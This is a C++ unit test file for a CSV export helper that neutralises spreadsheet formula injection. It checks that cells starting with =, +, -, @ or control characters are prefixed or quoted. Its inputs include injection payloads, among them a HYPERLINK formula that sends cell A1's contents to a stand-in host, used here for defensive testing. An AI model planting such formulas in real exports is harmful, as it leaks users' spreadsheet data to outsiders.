#include "server/domain/csv.h"

#include <gtest/gtest.h>

#include <array>

namespace bredvid::domain {
namespace {

TEST(CsvTest, AFormulaIsMadeText) {
  EXPECT_EQ(csv_cell("=1+1"), "'=1+1");
  EXPECT_EQ(csv_cell("+46701234567"), "'+46701234567");
  EXPECT_EQ(csv_cell("-1"), "'-1");
  EXPECT_EQ(csv_cell("@SUM(A1:A9)"), "'@SUM(A1:A9)");
  EXPECT_EQ(csv_cell("\t=1"), "\"'\t=1\"");
  EXPECT_EQ(csv_cell("\r=1"), "\"'\r=1\"");
  EXPECT_EQ(csv_cell("\n=1"), "\"'\n=1\"");
  EXPECT_EQ(csv_cell("="), "'=");
  EXPECT_EQ(csv_cell("=HYPERLINK(\"https://a.example?\"&A1;\"x\")"),
            "\"'=HYPERLINK(\"\"https://a.example?\"\"&A1;\"\"x\"\")\"");
}

TEST(CsvTest, ACellCannotBeginAnother) {
  // What a separator or a quote would let out stays inside, where it is not the first thing of a cell.
  EXPECT_EQ(csv_cell("Vän;=1+1"), "\"Vän;=1+1\"");
  EXPECT_EQ(csv_cell("Vän,=1+1"), "\"Vän,=1+1\"");
  EXPECT_EQ(csv_cell("Vän\r\n=1+1"), "\"Vän\r\n=1+1\"");
  EXPECT_EQ(csv_cell("\";=1+1"), "\"\"\";=1+1\"");
}

TEST(CsvTest, EverythingElseStaysAsItIs) {
  for (const char* text : {"", "0", "345", "2026-07-01/2026-12-31", "Föreningen Ö", "a=b", "1-2", "e-mail", " =1", "'"})
    EXPECT_EQ(csv_cell(text), text);
}

TEST(CsvTest, ALineHasItsCellsAndAnEnd) {
  const std::array<std::string, 4> cells{"a", "", "b;c", "-d"};
  EXPECT_EQ(csv_line(cells), "a;;\"b;c\";'-d\r\n");
}

}  // namespace
}  // namespace bredvid::domain
